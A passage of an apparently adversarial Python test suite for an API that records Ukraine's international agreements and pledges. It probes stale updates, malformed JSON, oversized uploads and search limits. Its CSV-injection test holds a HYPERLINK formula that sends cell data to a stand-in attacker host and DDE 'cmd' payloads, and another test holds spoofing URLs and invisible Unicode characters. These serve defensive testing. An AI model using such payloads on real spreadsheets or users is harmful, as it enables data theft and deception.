    if r is not None and r.status == 200 and created:
        converted = {item["partner"]: item for item in r.json().get("converted", {}).get("items", [])}
        rates = {(x["from"], x["year"]): Decimal(x["rate"]) for x in r.json().get("converted", {}).get("rates", [])}
        rate = rates.get(("CHF", 2024))
        for partner, amounts in plans:
            item = converted.get(partner)
            if item is None or rate is None or item.get("total") is None:
                continue
            expected = (sum(Decimal(a) for a in amounts) * rate).quantize(Decimal("0.01"), rounding=ROUND_HALF_EVEN)
            ctx.check(Decimal(item["total"]) == expected, f"{partner}: converted total {item['total']}, expected {expected}")
    # Editing a pledge up to the largest amount must not break the sums either.
    if created:
        pledge = f"{created[0]}-p1"
        ctx.request("PATCH", f"/v1/pledges/{pledge}", json_body={"amount": "999999999999999999.99"}, key=True,
                    headers={"Content-Type": "application/merge-patch+json"}, expect=(200, 422))
        for target in reads[:8]:
            ctx.request("GET", target, source="127.0.0.3", expect=200)


# --- 7. lost updates without If-Match ---------------------------------------------------------------


def lost_updates(ctx: Context) -> None:
    merge = {"Content-Type": "application/merge-patch+json"}
    for path in ("/v1/agreements/ua-jp-2024", "/v1/pledges/ua-gb-2024-p1", "/v1/sources/ua-gb-2024-s1", "/v1/areas/demining", "/v1/partners/JP"):
        got = ctx.request("GET", path, source="127.0.0.254", expect=200)
        if got is None or got.status != 200:
            continue
        stale = got.json()
        version = stale.get("version")
        if not isinstance(version, int):
            ctx.fail(f"GET {path} carries no integer version: {version!r}")
            continue
        edit_field = {"agreements": "signed_at", "pledges": "note", "sources": "publisher", "areas": "description",
                      "partners": "name_uk"}[path.split("/")[2]]
        patched = ctx.request("PATCH", path, json_body={edit_field: f"hostile edit {time.time()}"}, key=True,
                              headers={**merge, "If-Match": f'"{version}"'}, expect=200)
        if patched is None or patched.status != 200:
            continue
        current = patched.json()["version"]
        state = ctx.fingerprint()
        body = dict(stale)
        body[edit_field] = "a lost update"
        r = ctx.request("PUT", path, json_body=body, key=True, expect=412, label=f"PUT {path} with a stale body version")
        if r is not None and r.status == 412:
            ctx.check(r.json().get("current_version") == current,
                      f"PUT {path} stale: current_version {r.json().get('current_version')!r}, expected {current}")
        unchanged(ctx, state, f"PUT {path} with a stale version")
        r = ctx.request("PATCH", path, json_body={"version": version, edit_field: "a lost patch"}, key=True, headers=merge,
                        expect=412, label=f"PATCH {path} with a stale body version")
        unchanged(ctx, state, f"PATCH {path} with a stale version")
        for wrong in ("x", 1.5, True, [1], {"v": 1}):
            body = dict(stale)
            body["version"] = wrong
            r = ctx.request("PUT", path, json_body=body, key=True, expect=422, label=f"PUT {path} with version {wrong!r}")
            expect_field(ctx, r, "version", f"PUT {path} with version {wrong!r}")
        unchanged(ctx, state, f"PUT {path} with a version of the wrong type")
        # A body and If-Match that disagree: refused too.
        body = dict(stale)
        body["version"] = current
        ctx.request("PUT", path, json_body=body, key=True, headers={"If-Match": f'"{version}"'}, expect=412,
                    label=f"PUT {path}: current body version, stale If-Match")
        unchanged(ctx, state, f"PUT {path} with a stale If-Match")
        # The current version goes through.
        body = dict(stale)
        body["version"] = current
        ctx.request("PUT", path, json_body=body, key=True, expect=200, label=f"PUT {path} with the current body version")


# --- 8. JSON with trailing bytes ----------------------------------------------------------------------


def trailing_bytes(ctx: Context) -> None:
    before = ctx.fingerprint()
    jp = ctx.request("GET", "/v1/agreements/ua-jp-2024", source="127.0.0.254", expect=200)
    if jp is None:
        return
    put_body = json.dumps(jp.json())
    valid_agreement = json.dumps(agreement("Hostile trailing bytes", "NZ", 2018))
    cases = [
        ("POST", "/v1/agreements", valid_agreement, "application/json"),
        ("PUT", "/v1/agreements/ua-jp-2024", put_body, "application/json"),
        ("PATCH", "/v1/agreements/ua-jp-2024", '{"signed_at": "trailing"}', "application/merge-patch+json"),
        ("POST", "/v1/agreements/ua-jp-2024/pledges", '{"amount": "1", "currency": "EUR", "kind": "military"}', "application/json"),
        ("POST", "/v1/agreements/ua-jp-2024/sources", '{"url": "https://example.org/t", "title": "t"}', "application/json"),
        ("POST", "/v1/partners", '{"code": "XT", "kind": "organization", "name": "Trailing Org"}', "application/json"),
        ("POST", "/v1/areas", '{"code": "trailing", "name": "Trailing"}', "application/json"),
        ("POST", "/v1/rates", '{"items": [{"date": "2024-06-14", "currency": "GBP", "rate": "0.8430"}]}', "application/json"),
        ("PUT", "/v1/rates/USD/2024-06-13", '{"rate": "1.0812"}', "application/json"),
        ("POST", "/v1/import", '{"areas": [{"code": "trailing", "name": "Trailing"}]}', "application/json"),
    ]
    tails = ["}}", "{}", " x", "[]", "\x00", ' {"title": "second"}', "\n}"]
    if ctx.quick:
        tails = tails[:4]
    for method, path, body, content_type in cases:
        for tail in tails:
            ctx.request(method, path, body=body + tail, key=True, headers={"Content-Type": content_type}, expect=400,
                        label=f"{method} {path} + {tail!r}")
        # And two values in one body.
        ctx.request(method, path, body=body + body, key=True, headers={"Content-Type": content_type}, expect=400,
                    label=f"{method} {path}: two JSON values")
    unchanged(ctx, before, "bodies with trailing bytes")


# --- 9. error mapping by backend ---------------------------------------------------------------------


def cursor_of(text: str | bytes) -> str:
    data = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    return "c1" + data.hex()


def error_mapping(ctx: Context) -> None:
    before = ctx.fingerprint()
    lists = ["/v1/agreements", "/v1/agreements?sort=title", "/v1/agreements?sort=-signed_on", "/v1/agreements?q=drones",
             "/v1/partners", "/v1/areas", "/v1/rates", "/v1/history", "/v1/agreements/ua-jp-2024/history",
             "/v1/partners/japan/agreements", "/v1/areas/demining/agreements", "/v1/timeline"]
    payloads = [b"id|\x00", b"\x00", b"JP\x00", b"title|\x00|ua-jp-2024", b"-signed_on|2024-01-01\x00|x", b"id|a\x01b",
                b"id|\x7f", b"\xff\xfe", b"id|\xc0\x80", b"relevance|0\x00|x"]
    for target in lists:
        for payload in payloads if not ctx.quick else payloads[:5]:
            sep = "&" if "?" in target else "?"
            ctx.request("GET", f"{target}{sep}cursor={cursor_of(payload)}", expect=400,
                        label=f"GET {target} with a cursor of {payload!r}")
        sep = "&" if "?" in target else "?"
        for cursor in ("c1" + "0" * 3, "c1zz", "x" * 5000, "c1" + "41" * 5000):
            ctx.request("GET", f"{target}{sep}cursor={cursor}", expect=400, label=f"GET {target} with a malformed cursor")
    # Values a database may refuse: each a 4xx, never a 5xx.
    queries = [
        "/v1/changes?since=-1", "/v1/changes?since=9223372036854775808", "/v1/changes?since=99999999999999999999",
        "/v1/agreements?limit=99999999999999999999", "/v1/agreements?year=99999999999", "/v1/agreements?year=-2147483649",
        "/v1/agreements?min_amount=1e400&currency=EUR", "/v1/agreements?min_amount=99999999999999999999999999.999&currency=EUR",
        "/v1/agreements?signed_from=99999-01-01", "/v1/agreements?signed_from=0000-00-00", "/v1/history?since=99999-01-01",
        "/v1/history?since=1970-01-01T00:00:00%2B99:99", "/v1/rates?year=99999999999", "/v1/rates/annual?year=-99999999999",
        "/v1/rates/USD/99999-01-01", "/v1/rates/USD/0000-01-01", "/v1/pledges/" + "p" * 5000, "/v1/agreements/" + "a" * 5000,
    ]
    for target in queries:
        ctx.request("GET", target, expect=(200, 400, 404), label=f"GET {target[:80]}")
    for q in ['"', "'", "*", "(", ")", ":*", "&", "|", "!", "<->", "NEAR(a b)", "a AND", "OR NOT", "^", "-", "\\", "%", "_",
              "\u00a0", "a\u200fb", "'';--", "a:b:c", "\U0001f4a3", "x" * 900, "a" * 40 + " " + "b" * 40, "drones*", "-drones",
              '"drones', "drones OR", "@@", "!!x", "a & !b", "$1", "?", "{}", "[a-z]", "\\d+", "a\tb", "a\nb"]:
        ctx.request("GET", f"/v1/agreements?q={quote(q, safe='')}", expect=(200, 400),
                    label=f"GET /v1/agreements?q={q[:40]!r}")
    # NUL and other control characters inside JSON strings (PostgreSQL text cannot hold a NUL).
    bodies = [
        ("POST", "/v1/agreements", agreement("Hostile \u0000 NUL title", "NZ", 2017)),
        ("POST", "/v1/agreements", agreement("Hostile NUL summary", "NZ", 2017, summary="a\u0000b")),
        ("POST", "/v1/agreements", agreement("Hostile NUL partner", "N\u0000Z", 2017)),
        ("POST", "/v1/agreements", {**agreement("Hostile NUL id", "NZ", 2017), "id": "ua-nz-\u0000"}),
        ("PATCH", "/v1/agreements/ua-jp-2024", {"signed_at": "Fasano\u0000"}),
        ("POST", "/v1/partners", {"code": "X\u0000", "kind": "organization", "name": "NUL Org"}),
        ("POST", "/v1/areas", {"code": "nul", "name": "N\u0000UL"}),
        ("POST", "/v1/rates", {"items": [{"date": "2024-06-14", "currency": "GB\u0000", "rate": "0.8430"}]}),
        ("POST", "/v1/import?dry_run=true", {"areas": [{"code": "nul", "name": "N\u0000UL"}]}),
    ]
    for method, path, body in bodies:
        headers = {"Content-Type": "application/merge-patch+json"} if method == "PATCH" else None
        ctx.request(method, path, json_body=body, key=True, headers=headers, expect=(400, 422), label=f"{method} {path} with a NUL in a string")
    ctx.request("POST", "/v1/rates", body="date,currency,rate\n2024-06-14,GB\x00,0.8\n", key=True,
                headers={"Content-Type": "text/csv"}, expect=400, label="POST /v1/rates CSV with a NUL")
    ctx.request("POST", "/v1/agreements", json_body=agreement("Hostile key of 300 characters", "NZ", 2017), key=True,
                headers={"Idempotency-Key": "k" * 300}, expect=(400, 422), label="POST with an Idempotency-Key of 300 characters")
    unchanged(ctx, before, "requests with NUL cursors and strings")


# --- 10. memory proportional to input ----------------------------------------------------------------


MiB = 1024 * 1024


def big_uploads(ctx: Context) -> None:
    import_limit = ctx.setting("ACCORDS_IMPORT_BODY_LIMIT", 64 * MiB)
    rates_limit = ctx.setting("ACCORDS_RATES_BODY_LIMIT", import_limit)
    body_limit = ctx.setting("ACCORDS_BODY_LIMIT", 1 * MiB)
    cap = (16 if ctx.quick else 63) * MiB
    before = ctx.fingerprint()
    ctx.note(f"limits: POST /v1/rates {rates_limit >> 20} MiB, POST /v1/import {import_limit >> 20} MiB, other bodies {body_limit >> 10} KiB")
    # A CSV of bad rows as large as the rates limit allows (the was 63 MB).
    csv_body = bad_rates_csv(min(cap, rates_limit - 64 * 1024))
    upload(ctx, "/v1/rates", csv_body, "text/csv", (400,), f"{len(csv_body) / MiB:.0f} MiB CSV of bad rows")
    # The 63 MB (quick: just over the limit): refused by size when over the limit.
    over = max(rates_limit + MiB, cap) if rates_limit < 63 * MiB else 0
    if over:
        csv_body = bad_rates_csv(over)
        upload(ctx, "/v1/rates", csv_body, "text/csv", (413,), f"{len(csv_body) / MiB:.0f} MiB CSV of bad rows (over the limit)")
    del csv_body
    # The same as JSON.
    item = '{"date": "2024-13-01", "currency": "XXX", "rate": "-1"}'
    count = min((8 if ctx.quick else 32) * MiB, rates_limit - 64 * 1024) // (len(item) + 2)
    json_body = ('{"items": [' + ", ".join([item] * count) + "]}").encode()
    upload(ctx, "/v1/rates", json_body, "application/json", (400, 422), f"{len(json_body) / MiB:.0f} MiB JSON of {count} bad rates")
    del json_body
    # An import of many invalid agreements.
    bad = json.dumps({"partner": "Atlantis", "title": "", "kind": "x", "status": "y", "signed_on": "2024-02-30",
                      "pledges": [{"amount": "-5", "currency": "XYZ", "kind": "z"}]})
    count = min((16 if ctx.quick else 60) * MiB, import_limit - 64 * 1024) // (len(bad) + 2)
    import_body = ('{"agreements": [' + ", ".join([bad] * count) + "]}").encode()
    upload(ctx, "/v1/import?dry_run=true", import_body, "application/json", (400, 422),
           f"{len(import_body) / MiB:.0f} MiB import of {count} invalid agreements")
    del import_body
    # One byte over each limit, streamed: a 413 (early or once the limit is passed).
    for path, limit in (("/v1/rates", rates_limit), ("/v1/import", import_limit), ("/v1/agreements", body_limit)):
        start = ctx.server.rss_mib() or 0
        began = time.monotonic() - ctx.started
        ctx.mark_rss()
        response, sent, why = send_streamed(ctx, path, limit + 1)
        peak = ctx.peak_rss_since_mark()
        if response is None:
            ctx.fail(f"POST {path} of {limit + 1} bytes: no answer ({why}) after {sent} bytes sent, expected 413")
            continue
        ctx.observe("POST", path, response, f"POST {path} of {limit + 1} bytes (one over the limit)", expect=413)
        ctx.note(f"POST {path} of {limit + 1} bytes (from t+{began:.1f} s): {response.status} after {sent / MiB:.1f} MiB sent; "
                 f"RSS {start:.0f} → peak {peak:.1f} MiB")
    unchanged(ctx, before, "large invalid uploads")


def bad_rates_csv(size: int) -> bytes:
    rows = [b"date,currency,rate\n"]
    total = len(rows[0])
    i = 0
    while total < size:
        row = f"2024-13-{i % 90:02d},X{i % 100:02d},-{i}.5\n".encode()
        if total + len(row) > size:
            break
        rows.append(row)
        total += len(row)
        i += 1
    return b"".join(rows)


def upload(ctx: Context, path: str, body: bytes, content_type: str, expect: tuple[int, ...], what: str) -> None:
    what = f"{what} (from t+{time.monotonic() - ctx.started:.1f} s, RSS {ctx.server.rss_mib() or 0:.0f} MiB before)"
    ctx.mark_rss()
    r = ctx.request("POST", path, body=body, key=True, headers={"Content-Type": content_type}, timeout=180,
                    expect=expect, label=f"POST {path}: {what}")
    peak = ctx.peak_rss_since_mark()
    report(ctx, r, what, peak)


def send_streamed(ctx: Context, path: str, total: int, chunk: int = MiB) -> tuple[Response | None, int, str]:
    """POSTs `total` bytes in chunks, watching for an answer before the end."""
    sock = connect(ctx, "127.0.0.9", timeout=30)
    sent = 0
    try:
        sock.sendall((f"POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ctx.key}\r\n"
                      f"Content-Type: application/json\r\nContent-Length: {total}\r\nConnection: close\r\n\r\n").encode())
        block = b" " * chunk
        selector = selectors.DefaultSelector()
        selector.register(sock, selectors.EVENT_READ)
        while sent < total:
            if selector.select(timeout=0):
                break  # answered early
            piece = block[: min(chunk, total - sent)]
            sock.sendall(piece)
            sent += len(piece)
        selector.close()
    except OSError:
        pass  # the server answered and closed: read what it said
    response, why = read_head(sock, 30)
    ctx.untrack(sock)
    return response, sent, why


def report(ctx: Context, r: Response | None, what: str, peak: float) -> None:
    ctx.check(peak <= ctx.suite.rss_limit, f"{what}: peak RSS {peak:.1f} MiB while it was handled (bound {ctx.suite.rss_limit:.0f} MiB)")
    if r is None:
        return
    errors = []
    try:
        errors = r.json().get("errors", [])
    except ValueError:
        pass
    ctx.note(f"{what}: {r.status} in {r.elapsed:.1f} s, {len(r.body)} bytes, {len(errors)} errors listed, peak RSS {peak:.1f} MiB")
    ctx.check(len(r.body) < 1024 * 1024, f"{what}: the problem body is {len(r.body)} bytes (bound 1 MiB)")


# --- 11. CSV formula injection -----------------------------------------------------------------------


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def csv_injection(ctx: Context) -> None:
    payloads = {
        "title": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
        "summary": "+SUM(1;2)*cmd|' /C calc'!A0",
        "signed_at": "-2+3+cmd|' /C notepad'!'A1'",
    }
    body = agreement(payloads["title"], "NZ", 2016, summary=payloads["summary"], signed_at=payloads["signed_at"],
                     signatories=[{"name": "@SUM(1+1)*cmd", "role": "=1+1", "side": "partner"},
                                  {"name": "'already quoted", "role": "-role", "side": "ukraine"}],
                     areas=[{"code": "demining", "detail": "=2+2"}])
    body["pledges"] = [{"amount": "5", "currency": "EUR", "year_from": 2016, "year_to": 2016, "kind": "military",
                        "description": "=1+2", "note": "@note"}]
    body["sources"] = [{"url": "https://example.org/=x", "title": "-10+20", "publisher": "+publisher", "pledge_id": None}]
    r = ctx.request("POST", "/v1/agreements", json_body=body, key=True, expect=201, label="POST an agreement of formula-like text")
    if r is None or r.status != 201:
        return
    id_ = r.json()["id"]
    original = ctx.request("GET", f"/v1/agreements/{id_}", source="127.0.0.254", expect=200).json()
    # Over HTTP.
    for target in (f"/v1/agreements?format=csv&partner=NZ", f"/v1/agreements?format=csv&rows=pledges&partner=NZ"):
        got = ctx.request("GET", target, source="127.0.0.3", expect=200)
        if got is not None and got.status == 200:
            check_cells(ctx, got.body.decode("utf-8-sig"), f"GET {target}")
    got = ctx.request("GET", "/v1/agreements?partner=NZ", headers={"Accept": "text/csv"}, source="127.0.0.3", expect=200)
    if got is not None:
        check_cells(ctx, got.body.decode("utf-8-sig"), "GET /v1/agreements (Accept: text/csv)")
    # From the command line, and back.
    out = ctx.server.workdir / f"csv-{int(time.time() * 1000)}"
    done = ctx.server.cli("export", "--format", "csv", "--out", str(out))
    if not ctx.check(done.returncode == 0, f"accords export --format csv failed: {done.stderr.decode()[-300:]}"):
        return
    for path in sorted(out.glob("*.csv")):
        check_cells(ctx, path.read_text(encoding="utf-8-sig"), f"accords export: {path.name}")
    agreements_csv = (out / "agreements.csv").read_text(encoding="utf-8-sig")
    ctx.check("'=HYPERLINK(" in agreements_csv, "the exported title is not written as '=HYPERLINK(… (the leading ' the docs promise)")
    dry = ctx.server.cli("import", "--dry-run", str(out))
    stderr = dry.stderr.decode()
    ctx.check(dry.returncode == 0 and "0 to create, 0 to update" in stderr,
              f"importing the CSV export back is not a no-op: exit {dry.returncode}, {stderr.strip()[-200:]}; {dry.stdout.decode()[:300]}")
    done = ctx.server.cli("import", str(out))
    ctx.check(done.returncode == 0, f"accords import of the CSV export failed: {done.stderr.decode()[-300:]}")
    after = ctx.request("GET", f"/v1/agreements/{id_}", source="127.0.0.254", expect=200)
    if after is not None and after.status == 200:
        a = after.json()
        for key in ("title", "summary", "signed_at", "signatories", "areas"):
            ctx.check(a.get(key) == original.get(key), f"the round trip changed {key}: {original.get(key)!r} → {a.get(key)!r}")
        for field_name in ("description", "note"):
            ctx.check(a["pledges"][0].get(field_name) == original["pledges"][0].get(field_name),
                      f"the round trip changed pledges[0].{field_name}: {original['pledges'][0].get(field_name)!r} → {a['pledges'][0].get(field_name)!r}")
        for field_name in ("title", "publisher", "url"):
            ctx.check(a["sources"][0].get(field_name) == original["sources"][0].get(field_name),
                      f"the round trip changed sources[0].{field_name}")
    again = ctx.server.workdir / f"csv-again-{int(time.time() * 1000)}"
    ctx.server.cli("export", "--format", "csv", "--out", str(again))
    for path in sorted(out.glob("*.csv")):
        other = again / path.name
        ctx.check(other.exists() and other.read_bytes() == path.read_bytes(),
                  f"CSV export → import → export is not byte-identical ({path.name})")
    # 13: the CSV set into an empty store, as the README says: the JSON
    # export's partners and areas first, then the CSV directory.
    exported = ctx.server.cli("export")
    if ctx.check(exported.returncode == 0, f"accords export failed: {exported.stderr.decode()[-200:]}"):
        whole = json.loads(exported.stdout)
        vocabulary = ctx.server.workdir / f"vocabulary-{int(time.time() * 1000)}.json"
        vocabulary.write_text(json.dumps({"partners": whole.get("partners", []), "areas": whole.get("areas", [])}))
        empty = Server(ctx.server.binary, f"sqlite:{ctx.server.workdir}/empty-{int(time.time() * 1000)}.db", ctx.server.workdir, "empty")
        steps = [("migrate",), ("import", str(vocabulary)), ("import", str(out))]
        for step in steps:
            done = empty.cli(*step)
            if not ctx.check(done.returncode == 0,
                             f"13: CSV set into an empty store: accords {' '.join(step)} failed: {done.stderr.decode().strip()[:400]}"):
                break
        else:
            third = ctx.server.workdir / f"csv-empty-{int(time.time() * 1000)}"
            empty.cli("export", "--format", "csv", "--out", str(third))
            for path in sorted(out.glob("*.csv")):
                other = third / path.name
                ctx.check(other.exists() and other.read_bytes() == path.read_bytes(),
                          f"13: the CSV set imported into an empty store exports differently ({path.name})")
            shutil.rmtree(third, ignore_errors=True)
    shutil.rmtree(out, ignore_errors=True)
    shutil.rmtree(again, ignore_errors=True)


def check_cells(ctx: Context, text: str, where: str) -> None:
    bad = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(DANGEROUS):
                bad.append(cell[:40])
    ctx.check(not bad, f"{where}: {len(bad)} cells begin with = + - @ tab or CR, e.g. {bad[:3]}")


# --- 12. deceptive text ---------------------------------------------------------------------------


DECEPTIVE = ["\u202e", "\u202a", "\u202d", "\u2066", "\u2067", "\u2069", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u200e", "\u200f"]
USER_URLS = ["https://www.gov.uk@evil.example/x", "https://user:pass@example.org/", "http://a@b.example/",
             "https://www.gov.uk:443@evil.example/", "https://@evil.example/"]


def deceptive_text(ctx: Context) -> None:
    before = ctx.fingerprint()
    chars = DECEPTIVE[:5] if ctx.quick else DECEPTIVE
    for c in chars:
        label = f"U+{ord(c):04X}"
        cases = [
            ("POST", "/v1/agreements", agreement(f"Accord{c}evil", "NZ", 2015), "title"),
            ("POST", "/v1/agreements", agreement(f"{c}Accord", "NZ", 2015), "title"),
            ("POST", "/v1/agreements", agreement("Accord", "NZ", 2015, signatories=[{"name": f"Zelen{c}skyy", "role": "President", "side": "ukraine"}]), "signatories[0].name"),
            ("POST", "/v1/agreements", {**agreement("Accord", "NZ", 2015), "sources": [{"url": "https://example.org/x", "title": f"Title{c}"}]}, "sources[0].title"),
            ("POST", "/v1/agreements", {**agreement("Accord", "NZ", 2015), "sources": [{"url": "https://example.org/x", "title": "T", "publisher": f"GOV{c}.UK"}]}, "sources[0].publisher"),
            ("PATCH", "/v1/agreements/ua-jp-2024", {"title": f"Accord{c}"}, "title"),
            ("POST", "/v1/partners", {"code": "XD", "kind": "organization", "name": f"Deceptive{c}Org"}, "name"),
            ("POST", "/v1/partners", {"code": "XD", "kind": "organization", "name": "Deceptive Org", "aliases": [f"al{c}ias"]}, "aliases[0]"),
            ("PATCH", "/v1/partners/JP", {"name": f"Ja{c}pan"}, "name"),
            ("POST", "/v1/areas", {"code": "deceptive", "name": f"Dece{c}ptive"}, "name"),
            ("POST", "/v1/agreements/ua-jp-2024/sources", {"url": "https://example.org/x", "title": f"T{c}itle"}, "title"),
            ("POST", "/v1/import?dry_run=true", {"agreements": [{**agreement(f"Accord{c}", "NZ", 2015), "id": "ua-nz-2015"}]}, "agreements[0].title"),
        ]
        for method, path, body, field_name in cases:
            headers = {"Content-Type": "application/merge-patch+json"} if method == "PATCH" else None
            what = f"{method} {path} with {label} in {field_name}"
            r = ctx.request(method, path, json_body=body, key=True, headers=headers, expect=422, label=what)
            expect_field(ctx, r, field_name, what)
    for url in USER_URLS if not ctx.quick else USER_URLS[:3]:
        cases = [
            ("POST", "/v1/agreements", {**agreement("Accord", "NZ", 2015), "sources": [{"url": url, "title": "T"}]}, "sources[0].url"),
            ("POST", "/v1/agreements", agreement("Accord", "NZ", 2015, text_url=url), "text_url"),
            ("POST", "/v1/agreements/ua-jp-2024/sources", {"url": url, "title": "T"}, "url"),
            ("PATCH", "/v1/sources/ua-gb-2024-s1", {"url": url}, "url"),
            ("PATCH", "/v1/agreements/ua-jp-2024", {"text_url": url}, "text_url"),
        ]
        for method, path, body, field_name in cases:
            headers = {"Content-Type": "application/merge-patch+json"} if method == "PATCH" else None
            what = f"{method} {path} with {url} in {field_name}"
            r = ctx.request(method, path, json_body=body, key=True, headers=headers, expect=422, label=what)
            expect_field(ctx, r, field_name, what)
    unchanged(ctx, before, "deceptive titles, names and URLs")


# --- 13. the smaller items ------------------------------------------------------------------------


def small_query_items(ctx: Context) -> None:
    before = ctx.fingerprint()
    # 30,000 unknown query parameters: a 400 with a problem body, its detail bounded.
    names = "abcdeghjk"
    target = "/v1/agreements?" + "&".join(names[i % len(names)] + str(i % 7) for i in range(30000))[:65000]
    r = ctx.request("GET", target, expect=400, label="GET with 30,000 unknown query parameters")
    if r is not None and r.status == 400 and not problem_defect(r):
        body = r.json()
        ctx.check(bool(body.get("detail")), f"30,000 unknown parameters: the problem has no detail: {r.text(200)}")
        ctx.check(len(r.body) < 64 * 1024, f"30,000 unknown parameters: the problem body is {len(r.body)} bytes (bound 64 KiB)")
    distinct = "/v1/agreements?" + "&".join(f"u{i}=1" for i in range(7000))
    r = ctx.request("GET", distinct, expect=400, label="GET with 7,000 distinct unknown query parameters")
    if r is not None and r.status == 400 and not problem_defect(r):
        ctx.check(bool(r.json().get("detail")) and len(r.body) < 64 * 1024,
                  f"7,000 distinct unknown parameters: a problem without detail or of {len(r.body)} bytes")
    # Search words past the 16th: refused or honoured.
    jp = ctx.request("GET", "/v1/agreements/ua-jp-2024", source="127.0.0.254", expect=200).json()
    words: list[str] = []
    for word in re.findall(r"[A-Za-z]+", f"{jp['title']} {jp['summary']}"):
        w = word.lower()
        if len(w) >= 5 and w not in words:
            words.append(w)
    if len(words) >= 17:
        sixteen = "+".join(words[:16])
        r = ctx.request("GET", f"/v1/agreements?q={sixteen}&fields=id", expect=(200, 400), label="GET ?q= with 16 words")
        base_hit = r is not None and r.status == 200 and any(i["id"] == "ua-jp-2024" for i in r.json()["items"])
        r = ctx.request("GET", f"/v1/agreements?q={sixteen}+zzqxunmatched&fields=id", expect=(200, 400), label="GET ?q= with 17 words")
        if r is not None and r.status == 200:
            if base_hit:
                ctx.check(not r.json()["items"],
                          f"a 17th search word that matches nothing was ignored: {len(r.json()['items'])} results (words past the 16th dropped)")
            else:
                ctx.note("16 words of ua-jp-2024 did not find it; the 17th-word check is inconclusive")
        r = ctx.request("GET", f"/v1/agreements?q={'+'.join(words[:17])}&fields=id", expect=(200, 400), label="GET ?q= with 17 matching words")
        if r is not None and r.status == 200 and base_hit:
            ctx.check(any(i["id"] == "ua-jp-2024" for i in r.json()["items"]), "17 words that all occur in ua-jp-2024 do not find it")
    many = "+".join(f"word{i}" for i in range(500))
    ctx.request("GET", f"/v1/agreements?q={many}", expect=(200, 400), label="GET ?q= with 500 words")
    # Vary: Accept wherever Accept chooses the format.
    for target in ("/v1/agreements", "/v1/agreements?partner=JP", "/v1/partners/japan/agreements", "/v1/areas/demining/agreements",
                   "/v1/stats/pledges?group_by=partner", "/v1/timeline", "/v1/agreements/ua-jp-2024", "/v1/changes?since=0"):
        answers = {}
        for accept in ("application/json", "text/csv", "application/x-ndjson", "text/plain"):
            got = ctx.request("GET", target, headers={"Accept": accept}, source="127.0.0.3", expect=(200, 406), label=f"GET {target} ({accept})")
            if got is not None:
                answers[accept] = got
        kinds = {(g.status, (g.header("content-type") or "").split(";")[0]) for g in answers.values()}
        if len(kinds) > 1:
            for accept, got in answers.items():
                vary = ",".join(got.header_all("vary")).lower()
                ctx.check("accept" in vary or vary.strip() == "*",
                          f"GET {target} with Accept: {accept} answers {got.status} {got.header('content-type')} without Vary: Accept "
                          f"(the format depends on Accept)")
    unchanged(ctx, before, "the query checks of 13")


def small_write_items(ctx: Context) -> None:
    merge = {"Content-Type": "application/merge-patch+json"}
    # An Idempotency-Key does not change the size limit of a dry-run import.
    exported = ctx.server.cli("export")
    if ctx.check(exported.returncode == 0, f"accords export failed: {exported.stderr.decode()[-200:]}"):
        body = exported.stdout.rstrip()
        body = body + b" " * max(0, int(1.3 * 1024 * 1024) - len(body))
        before = ctx.fingerprint()
        plain = ctx.request("POST", "/v1/import?dry_run=true", body=body, key=True, headers={"Content-Type": "application/json"},
                            timeout=60, expect=200, label="POST /v1/import?dry_run=true, 1.3 MB")
        keyed = ctx.request("POST", "/v1/import?dry_run=true", body=body, key=True,
                            headers={"Content-Type": "application/json", "Idempotency-Key": f"hostile-import-{time.time()}"},
                            timeout=60, expect=200, label="POST /v1/import?dry_run=true, 1.3 MB, with an Idempotency-Key")
        if plain is not None and keyed is not None:
            ctx.check(plain.status == keyed.status, f"a 1.3 MB dry-run import answers {plain.status} without an Idempotency-Key, {keyed.status} with one")
        unchanged(ctx, before, "dry-run imports")
    # Dates at the edge of the calendar round-trip through PUT.
    for signed_on, term in (("9999-12-31", 10), ("9990-01-01", 100), ("0001-01-01", 10), ("2024-01-01", 2147483647)):
        body = agreement(f"Hostile far date {signed_on}", "NZ", 2014)
        body.update({"signed_on": signed_on, "term_years": term, "pledges": []})
        before = ctx.fingerprint()
        r = ctx.request("POST", "/v1/agreements", json_body=body, key=True, expect=(201, 422), label=f"POST signed_on {signed_on}, term {term}")
        if r is None:
            continue
        if r.status == 422:
            expect_field(ctx, r, "signed_on" if term < 1000 else "term_years", f"POST signed_on {signed_on}, term {term}")
            if not any(f in ("signed_on", "term_years", "expires_on") for f in error_fields(r)):
                ctx.fail(f"POST signed_on {signed_on} term {term}: 422 naming {error_fields(r)}")
            unchanged(ctx, before, f"a refused signed_on {signed_on}")
            continue
        got = ctx.request("GET", r.header("location") or "/", source="127.0.0.254", expect=200)
        if got is not None and got.status == 200:
            ctx.request("PUT", r.header("location"), json_body=got.json(), key=True, expect=200,
                        label=f"PUT back an agreement signed {signed_on} (expires_on {got.json().get('expires_on')})")
        for target in ("/v1/stats/agreements?group_by=year", "/v1/timeline", "/v1/agreements?sort=-signed_on&limit=5",
                       "/v1/checks", "/v1/agreements?format=csv&partner=NZ"):
            ctx.request("GET", target, source="127.0.0.3", expect=200)
    # Restore: whatever it answers, the OpenAPI document lists.
    spec = ctx.request("GET", "/openapi.json", source="127.0.0.254", expect=200).json()
    listed = set(spec["paths"]["/v1/agreements/{id}/restore"]["post"]["responses"])
    area = f"hostile-restore-{int(time.time())}"
    ctx.request("POST", "/v1/areas", json_body={"code": area, "name": "Hostile restore"}, key=True, expect=201)
    made = ctx.request("POST", "/v1/agreements", json_body=agreement("Hostile restore", "NZ", 2013, areas=[area]), key=True, expect=201)
    if made is not None and made.status == 201:
        location = made.header("location")
        ctx.request("DELETE", location, key=True, expect=204)
        ctx.request("DELETE", f"/v1/areas/{area}", key=True, expect=(204, 409))
        r = ctx.request("POST", f"{location}/restore", key=True, expect=(201, 409, 422), label="POST restore after its area was deleted")
        if r is not None:
            ctx.check(str(r.status) in listed, f"POST /v1/agreements/{{id}}/restore answered {r.status}, which its OpenAPI entry does not list ({sorted(listed)})")
    # Deleting the partner an agreement used, then restoring it.
    made = ctx.request("POST", "/v1/partners", json_body={"code": "XR", "kind": "organization", "name": "Hostile Restore Org"}, key=True, expect=(201, 409))
    made = ctx.request("POST", "/v1/agreements", json_body=agreement("Hostile restore 2", "XR", 2013), key=True, expect=201)
    if made is not None and made.status == 201:
        location = made.header("location")
